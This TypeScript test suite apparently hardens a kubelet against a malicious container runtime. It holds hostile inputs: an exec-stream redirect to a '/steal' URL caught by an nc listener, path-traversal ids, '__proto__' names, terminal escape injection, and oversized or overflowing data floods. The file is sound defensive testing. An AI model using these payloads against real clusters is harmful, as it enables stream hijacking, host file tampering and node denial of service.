import { connect } from 'node:net';
import { nodes } from '@podwright/kube-client-interface';
import {
  ContainerEventType,
  ContainerState,
  PodSandboxState,
  podNameLabel,
  podNamespaceLabel,
  podUidLabel,
  type Container,
  type ContainerStats,
  type PodSandbox,
} from '@podwright/cri-client-interface';
import { isTrue } from '../../acceptance/cluster-node.js';
import { aWhile, waitFor } from '../../acceptance/wait-for.js';
import { attack } from '../attack.js';
import { spdy } from '../api-exchange.js';
import { victim, type AttackTarget } from '../attack-target.js';

const escapes = '\u001b[2J\u001b]0;owned\u0007';
const mostGrownMiB = 250;
/** Several rounds of everything that the kubelet asks a runtime for each second. */
const lieMs = 5_000;

/** How the pod that the attack is not about fares. */
interface Bystander {
  readonly containerId: string;
  readonly restarts: number;
  readonly phase: string;
}

const bystander = async ({ node }: AttackTarget): Promise<Bystander> => {
  const { status } = (await node.pod(victim)) ?? {};
  const [main] = status?.containerStatuses ?? [];
  return { containerId: main?.containerID ?? '', restarts: main?.restartCount ?? -1, phase: status?.phase ?? '' };
};

interface Kept {
  readonly before: Bystander;
  readonly after: Bystander;
  readonly answers: boolean;
  readonly grownMiB: number;
}

/** Lies in `attempt`, and says what became of the rest of the node. */
async function watched<T>(target: AttackTarget, attempt: () => Promise<T>): Promise<T & Kept> {
  await target.victim();
  const [before, beforeMiB] = [await bystander(target), await target.memoryMiB()];
  const seen = await attempt();
  const answers = await target.answers();
  return { ...seen, before, after: await bystander(target), answers, grownMiB: (await target.memoryMiB()) - beforeMiB };
}

const keptHarms = ({ before, after, answers, grownMiB }: Kept): readonly string[] => [
  ...(JSON.stringify(before) === JSON.stringify(after)
    ? []
    : [`another pod was ${JSON.stringify(before)} and is ${JSON.stringify(after)}`]),
  ...(answers ? [] : ['the kubelet no longer answers']),
  ...(grownMiB > mostGrownMiB ? [`the kubelet grew by ${grownMiB.toFixed(0)} MiB`] : []),
];

const well: Bystander = { containerId: 'containerd://1', restarts: 0, phase: 'Running' };
const kept: Kept = { before: well, after: well, answers: true, grownMiB: 0 };

interface Redirected {
  /** What reached a server that is not on the node. */
  readonly sent: string;
  /** Whether that server can be reached at all. */
  readonly reachable: boolean;
}

const port = 9797;

export const streamRedirect = attack<Redirected>({
  name: 'runtime-exec-url',
  tries: 'a runtime that answers to exec with the URL of a server on another host',
  mustNot: 'the kubelet sends the session there',
  pastFault: 'CVE-2020-8559 class: a stream that is led to another host',
  attempt: async (target) => {
    await target.victim();
    // The network namespace of a pod is another host.
    await target.inPod(
      victim,
      `(while :; do nc -l -p ${port} >>/tmp/got 2>/dev/null; done) </dev/null >/dev/null 2>&1 & :>>/tmp/got`,
    );
    const ip = (await target.node.pod(victim))?.status?.podIP ?? '';
    const got = (): Promise<string> => target.inPod(victim, 'cat /tmp/got');
    const path = `/exec/default/${victim}/main?command=id&input=1&output=1`;
    await target.runtime.lie({ exec: () => ({ url: `http://${ip}:${port}/steal` }) }, () =>
      target.call({ method: 'POST', path, headers: spdy }, 'operator'),
    );
    const sent = await got();
    const reachable = await waitFor('the other host answers', async () => {
      await send(ip, 'proof');
      return (await got()).includes('proof');
    }).catch(() => false);
    return { sent, reachable };
  },
  harms: ({ sent, reachable }) => [
    ...(reachable ? [] : ['the other host could not be reached, so nothing was proven']),
    ...(sent === '' ? [] : [`another host got ${JSON.stringify(sent.slice(0, 40))}`]),
  ],
  weak: [
    { sent: 'POST /steal', reachable: true },
    { sent: '', reachable: false },
  ],
});

function send(host: string, text: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, host, () => socket.end(text, () => socket.destroy()));
    socket.once('error', reject).once('close', () => resolve());
  });
}

const ghostLabels = (uid: string, name: string): Record<string, string> => ({
  [podUidLabel]: uid,
  [podNameLabel]: name,
  [podNamespaceLabel]: 'default',
  'io.kubernetes.container.name': `main${escapes}`,
});

const ghostSandbox = (id: string, uid: string, name: string): PodSandbox => ({
  id,
  metadata: { name, namespace: 'default', uid, attempt: 0 },
  state: PodSandboxState.SANDBOX_NOTREADY,
  createdAt: 1n,
  labels: ghostLabels(uid, name),
  annotations: {},
  runtimeHandler: '',
});

const ghostContainer = (id: string, uid: string, name: string): Container => ({
  id,
  podSandboxId: `sandbox-of-${id.slice(0, 20)}`,
  metadata: { name: 'main', attempt: 0 },
  image: { image: 'x', imageRef: '', annotations: {}, userSpecifiedImage: '', runtimeHandler: '' },
  imageRef: 'x',
  imageId: 'x',
  state: ContainerState.CONTAINER_EXITED,
  createdAt: 1n,
  labels: ghostLabels(uid, name),
  annotations: { 'io.kubernetes.container.restartCount': '-5', 'io.kubernetes.container.preStopHandler': '{"exec":' },
});

interface Haunted extends Kept {
  readonly whole: boolean;
  readonly rawEscapes: boolean;
  /** Whether the kubelet asked about one of them, so that it has noticed them. */
  readonly noticed: boolean;
  readonly runsPods: boolean;
}

export const ghostRecords = attack<Haunted>({
  name: 'runtime-strangers',
  tries:
    'a runtime that lists pods and containers nobody asked for: UIDs and ids with .., escapes and slashes, names of prototypes and of other pods, doubles, an id of 1 MiB',
  mustNot: 'a file outside the folders of pods goes, another pod suffers, the log has raw escapes, or the kubelet ends',
  pastFault: 'panics and removals by what a runtime lists',
  attempt: (target) =>
    watched(target, async () => {
      const names: readonly (readonly [id: string, uid: string, name: string])[] = [
        ['ghost-1', '../../../attacked', 'ghost'],
        ['ghost-2', `uid${escapes}\n`, `ghost${escapes}\n`],
        ['../../../../attacked', '__proto__', 'constructor'],
        ['ghost-4', '', ''],
        ['ghost-5', 'ffffffff-0000-0000-0000-000000000000', victim],
        ['y'.repeat(1 << 20), 'uid-of-long', 'long'],
      ];
      const sandboxes = names.map(([id, uid, name]) => ghostSandbox(`sandbox-of-${id.slice(0, 20)}`, uid, name));
      const containers = names.map(([id, uid, name]) => ghostContainer(id, uid, name));
      let noticed = false;
      const lies: Parameters<typeof target.runtime.lie>[0] = {
        listPodSandbox: async (_request, truth) => {
          const { items } = await truth();
          return { items: [...items, ...items, ...sandboxes] };
        },
        listContainers: async (_request, truth) => {
          const answer = await truth();
          return { containers: [...answer.containers, ...answer.containers, ...containers] };
        },
        containerStatus: async (request, truth) => {
          const ghost = containers.find(({ id }) => id === request.containerId);
          if (ghost === undefined) return truth();
          noticed = true;
          return { status: { ...ghost, logPath: target.secretFile, exitCode: -1, reason: escapes, message: escapes } };
        },
        podSandboxStatus: async (request, truth) => {
          const ghost = sandboxes.find(({ id }) => id === request.podSandboxId);
          return ghost === undefined ? truth() : { status: { ...ghost, network: { ip: `1.2.3.4\n${escapes}` } } };
        },
        stopContainer: async (request, truth) =>
          containers.some(({ id }) => id === request.containerId) ? {} : truth(),
        removeContainer: async (request, truth) =>
          containers.some(({ id }) => id === request.containerId) ? {} : truth(),
        stopPodSandbox: async (request, truth) =>
          sandboxes.some(({ id }) => id === request.podSandboxId) ? {} : truth(),
        removePodSandbox: async (request, truth) =>
          sandboxes.some(({ id }) => id === request.podSandboxId) ? {} : truth(),
      };
      // The kubelet lists all anew when its stream of events breaks.
      await target.runtime.lie(lies, async () => {
        await target.runtime.reconnect();
        await waitFor('the kubelet asks about a stranger', async () => noticed, { withinMs: 90_000 }).catch(
          () => false,
        );
        await aWhile(lieMs);
      });
      const rawEscapes = (await target.log()).includes(escapes.slice(0, 4));
      const runsPods = await target.runsPods('after-strangers');
      return { whole: await target.secretIsWhole(), rawEscapes, noticed, runsPods };
    }),
  harms: ({ whole, rawEscapes, noticed, runsPods, ...rest }) => [
    ...(noticed ? [] : ['the kubelet has not noticed them, so nothing was proven']),
    ...(whole ? [] : ['a file of the machine was removed or changed']),
    ...(rawEscapes ? ['the log has a raw escape character'] : []),
    ...(runsPods ? [] : ['the node no longer runs pods']),
    ...keptHarms(rest),
  ],
  weak: [
    { ...kept, noticed: true, whole: false, rawEscapes: false, runsPods: true },
    { ...kept, noticed: true, whole: true, rawEscapes: true, runsPods: true },
    { ...kept, noticed: true, whole: true, rawEscapes: false, runsPods: false },
    { ...kept, noticed: false, whole: true, rawEscapes: false, runsPods: true },
    { ...kept, noticed: true, whole: true, rawEscapes: false, runsPods: true, after: { ...well, restarts: 1 } },
    { ...kept, noticed: true, whole: true, rawEscapes: false, runsPods: true, answers: false },
  ],
});

interface Counted extends Kept {
  readonly status: number;
  readonly lied: boolean;
  /** Numbers of the summary that no client can read as 64 bits without a sign. */
  readonly unreadable: readonly string[];
  readonly pressure: boolean;
}

const enormous = 2n ** 64n - 1n;
const value = { value: enormous };

const wrongStats = (stats: ContainerStats): object => ({
  ...stats,
  cpu: { timestamp: -(2n ** 63n), usageCoreNanoSeconds: value, usageNanoCores: value },
  memory: { timestamp: 2n ** 63n - 1n, workingSetBytes: value, usageBytes: value, availableBytes: value },
  writableLayer: { timestamp: -1n, fsId: { mountpoint: '../../..' }, usedBytes: value, inodesUsed: value },
  swap: { timestamp: 0n, swapUsageBytes: value },
});

/** Every number in a text of JSON that is no unsigned integer of 64 bits, except those of averages. */
export function unreadableNumbers(json: string): readonly string[] {
  const numbers = [...json.matchAll(/"(\w+)":\s*(-?\d[\d.eE+-]*)/g)].map(([, name = '', text = '']) => ({
    name,
    text,
  }));
  return numbers
    .filter(({ name }) => !name.startsWith('avg'))
    .filter(({ text }) => !/^\d+$/.test(text) || BigInt(text) > enormous)
    .map(({ name, text }) => `${name} ${text}`);
}

export const wrongNumbers = attack<Counted>({
  name: 'runtime-numbers',
  tries: 'a runtime whose statistics are enormous, with times far outside of any calendar',
  mustNot:
    'the summary fails or has numbers that break its readers, the node reports pressure, or another pod is evicted',
  pastFault: 'overflows in what is computed from statistics',
  attempt: (target) =>
    watched(target, async () => {
      let lied = false;
      const { answer, pressure } = await target.runtime.lie(
        {
          listContainerStats: async (_request, truth) => {
            lied = true;
            return { stats: (await truth()).stats.map(wrongStats) };
          },
          containerStats: async (_request, truth) => {
            const { stats } = await truth();
            return stats === undefined ? {} : { stats: wrongStats(stats) };
          },
          imageFsInfo: async (_request, truth) => {
            const { imageFilesystems } = await truth();
            const wrong = imageFilesystems.map((each) => ({
              ...each,
              usedBytes: value,
              inodesUsed: value,
              timestamp: -1n,
            }));
            return { imageFilesystems: wrong, containerFilesystems: wrong };
          },
        },
        async () => {
          await aWhile(lieMs);
          const found = await target.node.find(nodes, { name: target.node.name });
          const pressed = ['DiskPressure', 'MemoryPressure', 'PIDPressure'].some((type) => isTrue(found, type));
          return { answer: await target.call({ path: '/stats/summary' }, 'operator'), pressure: pressed };
        },
      );
      return { status: answer.status, lied, unreadable: unreadableNumbers(answer.body), pressure };
    }),
  harms: ({ status, lied, unreadable, pressure, ...rest }) => [
    ...(lied ? [] : ['the kubelet did not ask for statistics, so nothing was proven']),
    ...(status === 200 ? [] : [`the summary of the whole node is answered with ${status}`]),
    ...unreadable.slice(0, 3).map((number) => `the summary has ${number}, which its readers refuse`),
    ...(pressure ? ['the node reports pressure'] : []),
    ...keptHarms(rest),
  ],
  weak: [
    { ...kept, lied: true, status: 500, unreadable: [], pressure: false },
    { ...kept, lied: true, status: 200, unreadable: ['x -1'], pressure: false },
    { ...kept, lied: true, status: 200, unreadable: [], pressure: true },
    { ...kept, lied: false, status: 200, unreadable: [], pressure: false },
    { ...kept, lied: true, status: 200, unreadable: [], pressure: false, after: { ...well, phase: 'Failed' } },
  ],
});

interface Introduced extends Kept {
  readonly lied: boolean;
  readonly nodeBytes: number;
  readonly rawEscapes: boolean;
  /** Whether the node is Ready again after the lies. */
  readonly recovers: boolean;
}

const mostNodeBytes = 200_000;

export const wrongVersion = attack<Introduced>({
  name: 'runtime-version',
  tries: 'a runtime that changes its name and version to escapes and a text of 1 MiB, and reports conditions like that',
  mustNot: 'the Node object swells, the log has raw escapes, the kubelet ends, or the node is not Ready afterwards',
  pastFault: 'CVE-2021-25743 class: texts of others that reach a terminal',
  attempt: (target) =>
    watched(target, async () => {
      const text = `${escapes}\nforged line\r\n${'x'.repeat(1 << 20)}`;
      let lied = false;
      const condition = (type: string): object => ({ type, status: false, reason: text, message: text });
      const nodeBytes = await target.runtime.lie(
        {
          version: () => ({ version: text, runtimeName: text, runtimeVersion: text, runtimeApiVersion: text }),
          status: () => {
            lied = true;
            const conditions = ['RuntimeReady', 'NetworkReady', 'Ready', '__proto__', text].map(condition);
            return { status: { conditions }, info: { [text]: text }, runtimeHandlers: [{ name: text }] };
          },
        },
        async () => {
          await aWhile(3 * lieMs);
          return JSON.stringify(await target.node.find(nodes, { name: target.node.name })).length;
        },
      );
      const recovers = await target.node.ready({ withinMs: 60_000 }).then(
        () => true,
        () => false,
      );
      return { lied, nodeBytes, rawEscapes: (await target.log()).includes(escapes.slice(0, 4)), recovers };
    }),
  harms: ({ lied, nodeBytes, rawEscapes, recovers, ...rest }) => [
    ...(lied ? [] : ['the kubelet did not ask, so nothing was proven']),
    ...(nodeBytes > mostNodeBytes ? [`the Node object has ${nodeBytes} bytes`] : []),
    ...(rawEscapes ? ['the log has a raw escape character'] : []),
    ...(recovers ? [] : ['the node is not Ready afterwards']),
    ...keptHarms(rest),
  ],
  weak: [
    { ...kept, lied: true, nodeBytes: 2 << 20, rawEscapes: false, recovers: true },
    { ...kept, lied: true, nodeBytes: 1, rawEscapes: true, recovers: true },
    { ...kept, lied: true, nodeBytes: 1, rawEscapes: false, recovers: false },
    { ...kept, lied: false, nodeBytes: 1, rawEscapes: false, recovers: true },
    { ...kept, lied: true, nodeBytes: 1, rawEscapes: false, recovers: true, grownMiB: 500 },
  ],
});

interface Flooded extends Kept {
  readonly lists: number;
  /** Memory after each round. */
  readonly rounds: readonly number[];
  readonly runsPods: boolean;
}

const eventTypes = Object.values(ContainerEventType);
const mostFloodMiB = 300;
const mostPerRoundMiB = 30;
/** What adds up grows with each round; garbage comes and goes. */
const grows = (rounds: readonly number[]): boolean =>
  rounds.length > 1 &&
  rounds.every((each, index) => index === 0 || each - (rounds[index - 1] ?? each) > mostPerRoundMiB);

export const answerFlood = attack<Flooded>({
  name: 'runtime-flood',
  tries: 'a runtime with lists above the limit of a message and just below it, and events without a pause',
  mustNot: 'the kubelet grows, ends, no longer answers, or runs no pods afterwards',
  pastFault: 'CVE-2019-11253 class: memory that somebody else decides about',
  attempt: (target) =>
    watched(target, async () => {
      const [known] = await target.node.kubelet.bed.runtime.running(victim);
      const filler = 'z'.repeat(1_000);
      const many = (count: number): Container[] =>
        Array.from({ length: count }, (_, index) => ({
          ...ghostContainer(`flood-${index}`, `uid-${index}`, `pod-${index}`),
          annotations: { filler },
        }));
      const [above, below] = [many(30_000), many(9_000)];
      let lists = 0;
      const lies: Parameters<typeof target.runtime.lie>[0] = {
        listContainers: async (_request, truth) => {
          lists += 1;
          return { containers: [...(await truth()).containers, ...(lists % 2 === 0 ? below : above)] };
        },
        containerStatus: async (request, truth) => {
          if (request.containerId?.startsWith('flood-') !== true) return truth();
          return { status: undefined };
        },
        getContainerEvents: async function* () {
          for (let event = 0; ; event += 1)
            yield {
              containerId: known?.id ?? '',
              containerEventType: eventTypes[event % 4] ?? 0,
              createdAt: BigInt(event),
            };
        },
      };
      const rounds: number[] = [];
      await target.runtime.lie(lies, async () => {
        for (let round = 0; round < 4; round += 1) {
          const least = lists + 2;
          await target.runtime.reconnect();
          await waitFor('the kubelet lists', async () => lists >= least, { withinMs: 30_000 }).catch(() => false);
          await aWhile(lieMs);
          rounds.push(await target.memoryMiB());
        }
      });
      await target.runtime.reconnect();
      return { lists, rounds, runsPods: await target.runsPods('after-flood', 120_000) };
    }),
  harms: ({ lists, rounds, runsPods, ...rest }) => [
    ...(lists > 1 ? [] : ['the kubelet did not list, so nothing was proven']),
    ...(runsPods ? [] : ['the node no longer runs pods']),
    ...(grows(rounds)
      ? [`the kubelet had ${rounds.map((each) => each.toFixed(0)).join(', ')} MiB: it keeps growing`]
      : []),
    // Messages just below the limit take their room; what counts is that they do not add up.
    ...keptHarms({ ...rest, grownMiB: rest.grownMiB - mostFloodMiB }),
  ],
  weak: [
    { ...kept, lists: 2, rounds: [200, 200], runsPods: false },
    { ...kept, lists: 2, rounds: [150, 200, 350], runsPods: true },
    { ...kept, lists: 2, rounds: [200, 200], runsPods: true, grownMiB: 900 },
    { ...kept, lists: 2, rounds: [200, 200], runsPods: true, answers: false },
    { ...kept, lists: 0, rounds: [], runsPods: true },
  ],
});
